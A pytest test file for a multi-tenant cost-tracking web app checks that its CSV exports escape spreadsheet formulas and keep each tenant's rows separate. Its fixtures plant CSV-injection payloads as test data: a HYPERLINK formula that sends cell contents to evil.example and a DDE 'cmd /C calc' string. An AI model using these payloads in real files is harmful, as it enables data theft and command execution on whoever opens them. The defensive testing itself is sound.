"""Every table page downloads as CSV of what it shows (overview lists, usage, budgets, alerts,
approvals, audit), only the caller's tenants, and no cell of any CSV this product writes runs as a
spreadsheet formula: a hostile tag value or request id comes out as text."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from budgets.models import Alert, ApprovalRequest, Budget
from finops.services.rollups import rollups_refresh
from tenants.csv_safe import safe_cell
from tenants.models import AuditEvent, Membership

from ..factories import MembershipFactory, UserFactory

pytestmark = pytest.mark.django_db

HOSTILE_TAG = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
HOSTILE_ID = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.25", "-0.25"),  # a plain number cannot be a formula
        ("+12", "+12"),
        ("support", "support"),
        (5, 5),
        ("", ""),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


@pytest.fixture
def hostile(api_a, api_b, catalog):
    """Tenant A's call with a formula in a tag value and in its request id; tenant B's call with a marker."""
    for client, request_id, tags in (
        (api_a.client, HOSTILE_ID, {"note": HOSTILE_TAG}),
        (api_b.client, "marker-b-req", {"note": "marker-b-tag"}),
    ):
        response = client.post(
            "/api/v1/usage",
            {
                "request_id": request_id,
                "workflow": "ticket-summary",
                "model": "gpt-4o",
                "input_tokens": 1000,
                "output_tokens": 100,
                "tags": tags,
            },
            format="json",
        )
        assert response.status_code == 200, response.content
    rollups_refresh()


@pytest.fixture
def admin_a(tenant_a):
    return MembershipFactory(tenant=tenant_a, role=Membership.Role.ADMIN, user=UserFactory(username="admin-a")).user


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def test_hostile_values_are_text_in_every_export(hostile, admin_a, api_a):
    client = _client(admin_a)
    exports = {
        "explorer": client.get("/explore/export.csv?by=tag:note&range=7d"),
        "usage page": client.get("/usage/?format=csv"),
        "focus page": client.get("/exports/focus.csv"),
        "focus api": api_a.client.get("/api/v1/exports/focus.csv"),
    }
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.status_code)
        cells = _cells(_rows(response))
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], (name, cells)
        assert any(c in (f"'{HOSTILE_TAG}", f"'{HOSTILE_ID}") for c in cells), (name, cells)
        assert not any("marker-b" in c for c in cells), name


def test_usage_csv_is_the_page_rows_with_exact_costs(hostile, admin_a):
    rows = _rows(_client(admin_a).get("/usage/?format=csv"))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["occurred_at", "tenant", "workflow"] and "cost_usd" in header
    assert len(body) == 1 and body[0][-1] == f"'{HOSTILE_ID}"
    cost = body[0][header.index("cost_usd")]
    assert cost.startswith("0.") and len(cost.split(".")[1]) == 9


def test_overview_lists_download(hostile, admin_a):
    client = _client(admin_a)
    page = client.get("/").content.decode()
    assert "format=csv&amp;table=workflows" in page and "format=csv&amp;table=models" in page
    assert "format=csv&amp;table=tiers" in page and "format=csv&amp;table=environments" in page
    rows = _rows(client.get("/?format=csv&table=workflows"))
    assert rows[0] == ["key", "name", "calls", "tokens", "cost_usd", "unpriced_calls", "share"]
    assert rows[1][0] == "ticket-summary" and rows[1][2] == "1" and rows[1][3] == "1100"
    environments = _rows(client.get("/?format=csv&table=environments"))
    assert [row[0] for row in environments[1:]] == ["prod"]
    assert client.get("/?format=csv&table=nonsense")["Content-Type"].startswith("text/html")


def test_budgets_alerts_and_approvals_download_what_the_pages_show(admin_a, tenant_a, tenant_b):
    now = timezone.now()
    budget = Budget.objects.create(
        tenant=tenant_a, name="=A monthly", metric="cost", period="month", time_zone="UTC", hard_limit=800_000
    )
    Budget.objects.create(tenant=tenant_b, name="marker-b budget", metric="cost", period="month", time_zone="UTC")
    Alert.objects.create(kind="soft_limit", level=85, tenant=tenant_a, budget=budget, subject="A 85%", message="m",
                         created_at=now)  # fmt: skip
    Alert.objects.create(kind="soft_limit", level=85, tenant=tenant_b, subject="marker-b alert", message="m",
                         created_at=now)  # fmt: skip
    ApprovalRequest.objects.create(tenant=tenant_a, reasons=["over the threshold"], created_at=now,
                                   expires_at=now + timedelta(hours=1), estimated_cost_nanos=800_000)  # fmt: skip
    ApprovalRequest.objects.create(tenant=tenant_b, reasons=["marker-b"], created_at=now,
                                   expires_at=now + timedelta(hours=1))  # fmt: skip
    client = _client(admin_a)
    for page in ("/budgets/", "/alerts/", "/approvals/"):
        assert "format=csv" in client.get(page).content.decode(), page

    budgets = _rows(client.get("/budgets/?format=csv"))
    assert len(budgets) == 2 and budgets[1][0] == "'=A monthly"
    header = budgets[0]
    assert budgets[1][header.index("hard_limit")] == "0.000800000"  # $0.0008 keeps its digits
    assert budgets[1][header.index("unit")] == "USD"

    alerts = _rows(client.get("/alerts/?format=csv"))
    assert len(alerts) == 2 and alerts[1][alerts[0].index("subject")] == "A 85%"

    approvals = _rows(client.get("/approvals/?format=csv"))
    assert len(approvals) == 2
    assert approvals[1][approvals[0].index("estimated_cost_usd")] == "0.000800000"
    assert approvals[1][approvals[0].index("why")] == "over the threshold"
    for rows in (budgets, alerts, approvals):
        assert not any("marker-b" in c for c in _cells(rows))


def test_audit_csv_neutralises_too(admin_a, tenant_a):
    AuditEvent.objects.create(tenant=tenant_a, action="budget.create", request_id="@SUM(1+1)")
    rows = _rows(_client(admin_a).get("/audit/export.csv"))
    assert rows[1][-1] == "'@SUM(1+1)"
